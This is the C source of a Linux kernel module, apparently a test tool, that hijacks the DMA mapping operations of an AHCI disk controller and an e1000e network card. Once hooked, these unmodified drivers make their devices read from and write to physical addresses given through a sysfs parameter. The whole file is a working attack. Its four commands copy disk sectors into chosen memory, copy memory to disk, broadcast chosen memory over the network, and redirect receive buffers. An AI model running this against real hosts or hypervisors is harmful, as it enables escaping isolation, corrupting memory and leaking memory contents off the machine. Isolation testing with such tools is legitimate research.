/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A root guest whose kernel lies to its own drivers: AHCI's and e1000e's unmodified drivers program their devices with
 * addresses that this module names, in place of the address of a buffer that they asked to be mapped. For tests only.
 *
 *   echo "disk-read ADDRESS BYTES SECTOR" >/sys/module/dma_attack/parameters/attack
 *
 *   disk-read        the disk's sectors to memory at ADDRESS
 *   disk-write       memory at ADDRESS to the disk's sectors
 *   net-send         a frame whose payload is memory at ADDRESS
 *   net-receive      the next receive buffers that the driver hands out begin at ADDRESS; BYTES counts them
 *
 * The write returns the driver's answer, 0 or an error.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/dma-map-ops.h>
#include <linux/etherdevice.h>
#include <linux/if_ether.h>
#include <linux/module.h>
#include <linux/netdevice.h>
#include <linux/pci.h>
#include <linux/rtnetlink.h>

#define BUFFER_ORDER 2
#define BUFFER_BYTES (PAGE_SIZE << BUFFER_ORDER)

static char *disk = "/dev/sdc";
module_param(disk, charp, 0444);
MODULE_PARM_DESC(disk, "the AHCI disk whose sectors the attacks use");
static char *nic = "eth0";
module_param(nic, charp, 0444);
MODULE_PARM_DESC(nic, "the e1000e interface");

static struct pci_dev *ahci;
static struct net_device *net;
static struct page *buffer; /* the drivers get it */
static phys_addr_t target;  /* their devices get it in place of the buffer */
static atomic_t receives;   /* receive buffers that are still to be moved */

/* No unit is known to this kernel: a device's address is the physical one, and nothing is to be done for it. */
static dma_addr_t address_of(struct device *dev, struct page *page, unsigned long offset, enum dma_data_direction dir)
{
	const phys_addr_t physical = page_to_phys(page) + offset;

	if (physical - page_to_phys(buffer) < BUFFER_BYTES)
		return target + (physical - page_to_phys(buffer));
	if (dev == net->dev.parent && dir == DMA_FROM_DEVICE && atomic_dec_if_positive(&receives) >= 0)
		return target;
	return physical;
}

static dma_addr_t map_page(struct device *dev, struct page *page, unsigned long offset, size_t size,
			   enum dma_data_direction dir, unsigned long attrs)
{
	return address_of(dev, page, offset, dir);
}

static void unmap_page(struct device *dev, dma_addr_t address, size_t size, enum dma_data_direction dir,
		       unsigned long attrs)
{
}

static int map_sg(struct device *dev, struct scatterlist *list, int count, enum dma_data_direction dir,
		  unsigned long attrs)
{
	struct scatterlist *sg = list;

	for (int i = 0; i < count; i++, sg = sg_next(sg)) {
		sg_dma_address(sg) = address_of(dev, sg_page(sg), sg->offset, dir);
		sg_dma_len(sg) = sg->length;
	}
	return count;
}

static void unmap_sg(struct device *dev, struct scatterlist *list, int count, enum dma_data_direction dir,
		     unsigned long attrs)
{
}

static const struct dma_map_ops lies = {
	.map_page = map_page,
	.unmap_page = unmap_page,
	.map_sg = map_sg,
	.unmap_sg = unmap_sg,
};

static int attack_disk(enum req_op direction, unsigned int bytes, sector_t sector)
{
	struct file *file = bdev_file_open_by_path(disk, BLK_OPEN_READ | BLK_OPEN_WRITE, NULL, NULL);
	struct bio *bio;
	int error;

	if (IS_ERR(file))
		return PTR_ERR(file);
	bio = bio_alloc(file_bdev(file), 1, direction | REQ_FAILFAST_DEV, GFP_KERNEL);
	bio->bi_iter.bi_sector = sector;
	__bio_add_page(bio, buffer, bytes, 0);
	error = submit_bio_wait(bio);
	bio_put(bio);
	fput(file);
	return error;
}

/* Header from ordinary memory, payload from the buffer: two descriptors. */
static int attack_send(unsigned int bytes)
{
	struct sk_buff *skb = alloc_skb(ETH_HLEN, GFP_KERNEL);
	struct ethhdr *header;
	int result;

	if (!skb)
		return -ENOMEM;
	header = skb_put(skb, ETH_HLEN);
	eth_broadcast_addr(header->h_dest);
	ether_addr_copy(header->h_source, net->dev_addr);
	header->h_proto = htons(ETH_P_802_EX1);
	get_page(buffer);
	skb_add_rx_frag(skb, 0, buffer, 0, bytes, bytes);
	skb_reset_mac_header(skb);
	skb->protocol = header->h_proto;
	skb->dev = net;
	result = dev_queue_xmit(skb);
	return net_xmit_eval(result);
}

static int attack_set(const char *text, const struct kernel_param *kp)
{
	char what[16];
	unsigned int bytes;
	u64 address, sector = 0;

	if (sscanf(text, "%15s %lli %u %llu", what, &address, &bytes, &sector) < 3 || bytes > BUFFER_BYTES)
		return -EINVAL;
	target = address;
	if (!strcmp(what, "disk-read"))
		return attack_disk(REQ_OP_READ, bytes, sector);
	if (!strcmp(what, "disk-write"))
		return attack_disk(REQ_OP_WRITE, bytes, sector);
	if (!strcmp(what, "net-send"))
		return attack_send(bytes);
	if (strcmp(what, "net-receive"))
		return -EINVAL;
	atomic_set(&receives, bytes);
	return 0;
}

static const struct kernel_param_ops attack_ops = {.set = attack_set};
module_param_cb(attack, &attack_ops, NULL, 0200);
MODULE_PARM_DESC(attack, "KIND ADDRESS BYTES [SECTOR]");

static int __init attack_init(void)
{
	buffer = alloc_pages(GFP_KERNEL | __GFP_COMP | __GFP_ZERO, BUFFER_ORDER);
	ahci = pci_get_class(PCI_CLASS_STORAGE_SATA_AHCI, NULL);
	net = dev_get_by_name(&init_net, nic);
	if (!buffer || !ahci || !net) {
		pr_err("no memory, no AHCI controller, or no interface %s\n", nic);
		return -ENODEV;
	}
	set_dma_ops(&ahci->dev, &lies);
	set_dma_ops(net->dev.parent, &lies);
	return 0;
}
module_init(attack_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("DMA to addresses of one's choice, by unmodified drivers");
